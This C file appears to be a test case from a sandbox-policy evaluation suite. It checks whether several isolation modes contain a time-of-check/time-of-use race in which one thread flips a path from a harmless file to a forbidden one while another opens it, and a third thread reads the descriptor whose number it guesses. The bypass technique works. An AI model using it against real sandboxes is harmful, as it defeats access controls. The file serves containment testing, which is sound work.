/* attack
class: policy
aim: call
race: true
tries: a forbidden file read by another thread before what was opened is judged
expect: { none: contained, process: gap, mpk: contained }
gap: a tracer judges the path before the kernel copies it
*/
/* The policy forbids to open forbidden-file. One thread changes the path while another opens it; a third reads whatever has the next number. */
#include "attack.h"
#include <pthread.h>
static char path[32] = "harmless-file";
static volatile int stop, got;
static int number;
static void *flips(void *unused) {
    while (!stop) {
        memcpy(path, "forbidden-file", 15);
        __asm__ volatile("" : : : "memory");
        for (volatile int i = 0; i < 60; i++) {}
        memcpy(path, "harmless-file\0", 15);
        __asm__ volatile("" : : : "memory");
        for (volatile int i = 0; i < 60; i++) {}
    }
    return unused;
}
static void *reads(void *unused) {
    char text[8];
    while (!stop)
        if (pread(number, text, 8, 0) == 8 && memcmp(text, "secret!!", 8) == 0) got = 1;
    return unused;
}
int main(void) {
    FILE *file = fopen("harmless-file", "w");
    fputs("harmless", file);
    fclose(file);
    /* It may not be opened by this name, but moved there. */
    file = fopen("other", "w");
    fputs("secret!!", file);
    fclose(file);
    rename("other", "forbidden-file");
    number = dup(0);
    close(number);
    pthread_t thread;
    pthread_create(&thread, NULL, flips, NULL);
    pthread_create(&thread, NULL, reads, NULL);
    struct timespec begun, now;
    clock_gettime(CLOCK_MONOTONIC, &begun);
    for (now = begun; now.tv_sec - begun.tv_sec < 5 && !got; clock_gettime(CLOCK_MONOTONIC, &now)) {
        int fd = (int)syscall(SYS_open, path, O_RDONLY);
        if (fd >= 0) close(fd);
    }
    errno = 0;
    verdict(got);
}
